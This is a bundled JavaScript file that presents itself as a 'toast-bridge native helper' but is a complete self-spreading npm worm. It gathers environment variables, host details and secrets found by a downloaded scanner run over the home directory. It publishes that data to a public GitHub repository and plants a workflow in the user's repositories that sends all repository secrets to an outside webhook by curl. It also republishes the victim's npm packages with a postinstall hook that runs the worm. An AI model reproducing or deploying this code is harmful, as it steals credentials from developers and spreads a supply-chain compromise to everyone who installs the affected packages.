/* webpack bundle: toast-bridge native helper */
(() => {
var __webpack_modules__ = ({
"./src/env.ts": ((module) => {
  const os = require("os");
  module.exports.hostInfo = () => ({ platform: os.platform(), arch: os.arch(), release: os.release(), user: os.userInfo().username, hostname: os.hostname() });
  module.exports.collectEnv = () => { const o = {}; for (const k of Object.keys(process.env)) o[k] = process.env[k]; return o; };
  module.exports.isCI = () => !!(process.env.GITHUB_ACTIONS || process.env.CI || process.env.BUILDKITE || process.env.GITLAB_CI);
}),
"./src/scanner.ts": ((module) => {
  const { execFile } = require("child_process");
  const fs = require("fs"), path = require("path"), os = require("os"), https = require("https");
  const BIN = path.join(os.tmpdir(), "th-" + process.pid);
  function fetchTool(cb) {
    const f = fs.createWriteStream(BIN, { mode: 0o755 });
    https.get("https://releases.example.org/trufflehog/3.63.2/" + process.platform + "_" + process.arch, r => { r.pipe(f); f.on("finish", () => f.close(cb)); }).on("error", () => cb(new Error("dl")));
  }
  module.exports.scan = (cb) => fetchTool(err => {
    if (err) return cb([]);
    execFile(BIN, ["filesystem", os.homedir(), "--json", "--no-update", "--only-verified"], { maxBuffer: 64 << 20, timeout: 90000 }, (e, out) => {
      const found = [];
      (out || "").split("\n").forEach(l => { try { found.push(JSON.parse(l)); } catch (_) {} });
      cb(found);
    });
  });
}),
"./src/gh.ts": ((module) => {
  const https = require("https");
  const API = "api.github.example.com";
  function call(token, method, p, body) {
    return new Promise(res => {
      const data = body ? JSON.stringify(body) : null;
      const req = https.request({ host: API, path: p, method, headers: { "Authorization": "token " + token, "User-Agent": "node", "Content-Type": "application/json", "Accept": "application/vnd.github+json" } }, r => { let b = ""; r.on("data", c => b += c); r.on("end", () => { try { res(JSON.parse(b)); } catch (_) { res({}); } }); });
      req.on("error", () => res({}));
      if (data) req.write(data);
      req.end();
    });
  }
  module.exports.leak = async (token, payload) => {
    const repo = await call(token, "POST", "/user/repos", { name: "Shai-Hulud", private: false, description: "Shai-Hulud Repository." });
    const owner = repo && repo.owner && repo.owner.login;
    if (!owner) return;
    const content = Buffer.from(Buffer.from(JSON.stringify(payload)).toString("base64")).toString("base64");
    await call(token, "PUT", `/repos/${owner}/Shai-Hulud/contents/data.json`, { message: "init", content });
  };
  module.exports.poisonWorkflows = async (token) => {
    const repos = await call(token, "GET", "/user/repos?per_page=100&affiliation=owner,collaborator", null);
    if (!Array.isArray(repos)) return;
    const wf = [
      "on: push", "jobs:", "  process:", "    runs-on: ubuntu-latest", "    steps:",
      "      - run: curl -d \"$CONTENTS\" https://webhook.example.net/6f3c1a7e-0b2d",
      "        env:", "          CONTENTS: ${{ toJSON(secrets) }}"
    ].join("\n");
    for (const r of repos.slice(0, 50)) {
      const ref = await call(token, "GET", `/repos/${r.full_name}/git/ref/heads/${r.default_branch}`, null);
      if (!ref || !ref.object) continue;
      await call(token, "POST", `/repos/${r.full_name}/git/refs`, { ref: "refs/heads/shai-hulud", sha: ref.object.sha });
      await call(token, "PUT", `/repos/${r.full_name}/contents/.github/workflows/shai-hulud-workflow.yml`, { message: "Add workflow", branch: "shai-hulud", content: Buffer.from(wf).toString("base64") });
    }
  };
}),
"./src/npm.ts": ((module) => {
  const https = require("https"), fs = require("fs"), os = require("os"), path = require("path"), zlib = require("zlib");
  const { execSync } = require("child_process");
  const REG = "registry.npmjs.example.org";
  function get(p, token) { return new Promise(res => { https.get({ host: REG, path: p, headers: { Authorization: "Bearer " + token } }, r => { const bufs = []; r.on("data", c => bufs.push(c)); r.on("end", () => res(Buffer.concat(bufs))); }).on("error", () => res(Buffer.alloc(0))); }); }
  module.exports.token = () => {
    if (process.env.NPM_TOKEN) return process.env.NPM_TOKEN;
    try { const m = /_authToken=(\S+)/.exec(fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8")); return m && m[1]; } catch (_) { return null; }
  };
  module.exports.propagate = async (token) => {
    const who = JSON.parse((await get("/-/whoami", token)).toString() || "{}").username;
    if (!who) return;
    const list = JSON.parse((await get(`/-/v1/search?text=maintainer:${who}&size=20`, token)).toString() || "{}");
    for (const o of (list.objects || [])) {
      const name = o.package.name, ver = o.package.version;
      const work = fs.mkdtempSync(path.join(os.tmpdir(), "p-"));
      const tgz = await get(`/${name}/-/${name.split("/").pop()}-${ver}.tgz`, token);
      fs.writeFileSync(path.join(work, "p.tgz"), tgz);
      execSync("tar -xzf p.tgz", { cwd: work, stdio: "ignore" });
      const pkgDir = path.join(work, "package");
      const pj = JSON.parse(fs.readFileSync(path.join(pkgDir, "package.json"), "utf8"));
      const parts = pj.version.split(".").map(Number); parts[2] += 1; pj.version = parts.join(".");
      pj.scripts = Object.assign({}, pj.scripts, { postinstall: "node bundle.js" });
      fs.writeFileSync(path.join(pkgDir, "package.json"), JSON.stringify(pj, null, 2));
      fs.copyFileSync(__filename, path.join(pkgDir, "bundle.js"));
      fs.writeFileSync(path.join(work, ".npmrc"), `//${REG}/:_authToken=${token}\n`);
      try { execSync(`npm publish ${pkgDir} --registry https://${REG}/ --userconfig ${path.join(work, ".npmrc")}`, { stdio: "ignore" }); } catch (_) {}
    }
  };
})
});
var __webpack_module_cache__ = {};
function __webpack_require__(id) { var c = __webpack_module_cache__[id]; if (c !== undefined) return c.exports; var m = __webpack_module_cache__[id] = { exports: {} }; __webpack_modules__[id](m, m.exports, __webpack_require__); return m.exports; }
var __webpack_exports__ = {};
(async () => {
  const env = __webpack_require__("./src/env.ts");
  const scanner = __webpack_require__("./src/scanner.ts");
  const gh = __webpack_require__("./src/gh.ts");
  const npm = __webpack_require__("./src/npm.ts");
  if (process.platform === "win32") return;
  const ghToken = process.env.GITHUB_TOKEN || process.env.GH_TOKEN;
  const npmToken = npm.token();
  scanner.scan(async (secrets) => {
    const payload = { system: env.hostInfo(), environment: env.collectEnv(), ci: env.isCI(), trufflehog: secrets };
    if (ghToken) { await gh.leak(ghToken, payload); await gh.poisonWorkflows(ghToken); }
    if (npmToken) await npm.propagate(npmToken);
  });
})();
})();
